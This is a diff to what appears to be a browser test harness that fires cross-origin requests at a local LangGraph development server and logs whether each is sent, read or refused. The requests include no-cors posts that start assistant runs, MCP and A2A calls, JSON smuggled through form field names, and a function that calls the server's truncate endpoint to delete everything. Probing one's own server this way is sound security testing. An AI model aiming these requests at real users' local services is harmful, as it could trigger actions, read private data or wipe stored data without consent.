@@ -5,10 +5,10 @@
  */
 
 const KNOWN = "11111111-2222-4333-8444-555555555555";
-const SECONDS = 3;
+const SECONDS = 5;
 const TYPES = ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data", "application/json", ""];
 const METHODS = ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "QUERY"];
-const MODES = ["cors", "no-cors", "same-origin", "navigate"];
+const MODES = ["cors", "no-cors", "same-origin"];
 
 const marked = (attack) => ({ metadata: { attack }, if_exists: "do_nothing" });
 const question = { question: "Who?" };
@@ -29,6 +29,7 @@ const plain = (url, body, method = "POST", mode = "no-cors", type = "text/plain"
 
 /** Every mode, method and type of `fetch`. */
 function* fetches(base) {
+  yield ["fetch navigate", () => fetched(base + "/info", { mode: "navigate" })];
   for (const mode of MODES)
     for (const method of METHODS)
       for (const type of ["GET", "HEAD"].includes(method) ? [""] : TYPES) {
@@ -59,7 +60,6 @@ function* simple(base, hook, assistant) {
   yield ["command", () => plain(`${base}/threads/${KNOWN}/commands`, { id: 1, method: "run.start", params: { assistant_id: assistant, input: question, metadata: { attack: "command" } } })];
   yield ["mcp", () => plain(`${base}/mcp`, { jsonrpc: "2.0", id: 1, method: "tools/call", params: { name: assistant, arguments: question } })];
   yield ["a2a", () => plain(`${base}/a2a/${assistant}`, { jsonrpc: "2.0", id: 1, method: "message/send", params: { message: { role: "user", messageId: "1", parts: [{ kind: "text", text: "Who?" }] } } })];
-  yield ["truncate", () => plain(`${base}/internal/truncate`, { store: true })];
   yield ["no type", () => fetched(`${base}/threads`, { method: "POST", mode: "no-cors", body: new Blob([JSON.stringify(marked("no type"))]) })];
   yield ["keepalive", () => fetched(`${base}/threads`, { method: "POST", mode: "no-cors", keepalive: true, body: JSON.stringify(marked("keepalive")) })];
   yield ["private network", () => fetched(`${base}/threads/search`, { method: "POST", targetAddressSpace: "loopback", body: "{}", headers: { "Content-Type": "application/json" } })];
@@ -94,18 +94,17 @@ async function submitted(base, name, { enctype, target, method }) {
   Object.assign(field, { name: JSON.stringify(marked(name)).replace(/}$/, ',"x":"'), value: '"}' });
   form.append(field);
   document.body.append(frame, form);
-  const loaded = new Promise((resolve) => (frame.onload = resolve));
   form.submit();
   if (target === "window") return "sent";
-  await loaded;
-  return frame.contentDocument ? "read a frame" : "sent";
+  await new Promise((resolve) => setTimeout(resolve, 500));
+  return shown(frame.contentDocument);
 }
 
 /** Elements that load by themselves. */
 function* elements(base) {
   const at = (path) => `${base}${path}?${Math.random()}`;
   for (const path of ["/info", `/threads/${KNOWN}/state`, "/page/main.js", "/page/icon.svg", "/page/base.css"]) {
-    for (const [tag, attribute] of [["img", "src"], ["script", "src"], ["embed", "src"], ["object", "data"], ["video", "src"]])
+    for (const [tag, attribute] of [["img", "src"], ["script", "src"], ["video", "src"], ["embed", "src"], ["object", "data"]])
       yield [`${tag} ${path}`, () => loaded(tag, { [attribute]: at(path) })];
     yield [`style ${path}`, () => loaded("link", { rel: "stylesheet", href: at(path) })];
     yield [`module ${path}`, () => import(at(path)).then(() => "read a module")];
@@ -113,19 +112,27 @@ function* elements(base) {
   yield ["frame", () => framed(`${base}/`)];
 }
 
+/** What a frame or a window shows, where it can be looked into; a refusal is nothing worth reading. */
+function shown(view) {
+  const text = view?.body?.textContent ?? "";
+  if (!text) return "sent";
+  return /^({"detail"|Invalid host)/.test(text) ? `refused ${text.slice(0, 200)}` : `read ${text.slice(0, 80)}`;
+}
+
 const loaded = (tag, attributes) =>
   new Promise((resolve) => {
     const element = document.createElement(tag);
-    element.onload = element.onloadeddata = () => resolve(["embed", "object"].includes(tag) ? "sent" : `read as ${tag}`);
+    element.onload = element.onloadeddata = () => resolve(`read as ${tag}`);
     element.onerror = () => resolve("failed");
     for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
     document.body.append(element);
+    if (["embed", "object"].includes(tag)) resolve("sent"); // They load like frames, out of reach.
   });
 
 const framed = (url) =>
   new Promise((resolve) => {
     const frame = document.createElement("iframe");
-    frame.onload = () => resolve(frame.contentDocument?.body.textContent ? "read a frame" : "sent");
+    frame.onload = () => resolve(shown(frame.contentDocument));
     frame.src = url;
     document.body.append(frame);
   });
@@ -146,12 +153,14 @@ function* streams(base, assistant) {
   yield ["window", async () => {
     const opened = open(`${base}/threads/${KNOWN}`);
     await new Promise((resolve) => setTimeout(resolve, 300));
-    const text = opened?.document?.body?.textContent;
-    return text ? `read ${text.slice(0, 80)}` : "sent";
+    return shown(opened?.document);
   }];
 }
 
-/** Try everything; return what became of each attempt. */
+/** Delete everything: LangGraph's development server has an address for that. */
+window.truncate = (base) => timed(plain(`${base}/internal/truncate`, {}));
+
+/** Try everything else; return what became of each attempt. */
 window.attack = async (base, hook, assistant) => {
   const found = {};
   const plan = [...fetches(base), ...simple(base, hook, assistant), ...beacons(base), ...forms(base), ...elements(base), ...streams(base, assistant)];
